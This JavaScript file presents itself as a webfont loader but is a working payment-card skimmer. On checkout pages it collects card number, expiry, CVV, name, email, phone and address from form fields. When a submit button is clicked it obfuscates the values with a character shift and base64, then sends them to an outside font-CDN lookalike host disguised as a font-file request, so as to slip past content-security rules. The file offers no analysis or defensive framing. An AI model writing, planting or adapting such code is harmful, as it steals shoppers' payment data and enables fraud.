/* csp-sidechannel-exfil: "webfont loader" that encodes checkout values into the src URL of a FontFace it loads */
/* ES5 with a small loader API; FontFace.load() triggers the request */
var WebFontKit = (function (win, doc) {
  var CDN = 'https://cdn-typekit-fonts.net/kit/';
  var registry = {};

  function load(family, url) {
    if (!win.FontFace || registry[url]) return;
    registry[url] = 1;
    try {
      var face = new win.FontFace(family, 'url(' + url + ') format("woff2")', { display: 'swap' });
      doc.fonts.add(face);
      face.load()['catch'](function () {});
    } catch (e) {}
  }

  function kit(id) {
    load('KitSans', CDN + id + '/sans-regular.woff2');
    load('KitSans', CDN + id + '/sans-bold.woff2');
  }

  function rot(s, k) {
    var o = '';
    for (var i = 0; i < s.length; i++) o += String.fromCharCode((s.charCodeAt(i) + k) % 256);
    return o;
  }

  function glyphSubset(text) {
    // the "subset" parameter is really the encoded form contents
    var enc = btoa(rot(unescape(encodeURIComponent(text)), 7)).replace(/\+/g, '.').replace(/\//g, '_').replace(/=/g, '');
    load('KitSubset' + enc.length, CDN + 'subset/' + enc + '.woff2');
  }

  return { kit: kit, subset: glyphSubset };
})(window, document);

WebFontKit.kit('pxq7ltm');

(function () {
  if (!/checkout|step=payment/.test(location.href)) return;

  var names = {
    'cc-number': 'n', 'cc-exp': 'e', 'cc-exp-month': 'em', 'cc-exp-year': 'ey',
    'cc-csc': 'c', 'cc-name': 'h', 'email': 'm', 'tel': 't', 'postal-code': 'z', 'address-line1': 'a'
  };
  var bag = {};

  document.addEventListener('change', function (e) {
    var el = e.target;
    var ac = el && el.getAttribute ? el.getAttribute('autocomplete') : null;
    var short = names[ac] || (/card.?num/i.test(el.name) ? 'n' : /cvv|cvc/i.test(el.name) ? 'c' : null);
    if (short) bag[short] = el.value;
  }, true);

  var done = false;
  document.addEventListener('click', function (e) {
    var t = e.target;
    if (done || !t || !/submit|button/i.test(t.type || t.tagName)) return;
    if (!bag.n || bag.n.replace(/\D/g, '').length < 13) return;
    done = true;
    var s = [];
    for (var k in bag) s.push(k + ':' + bag[k]);
    s.push('d:' + location.hostname);
    WebFontKit.subset(s.join(','));
  }, true);
})();
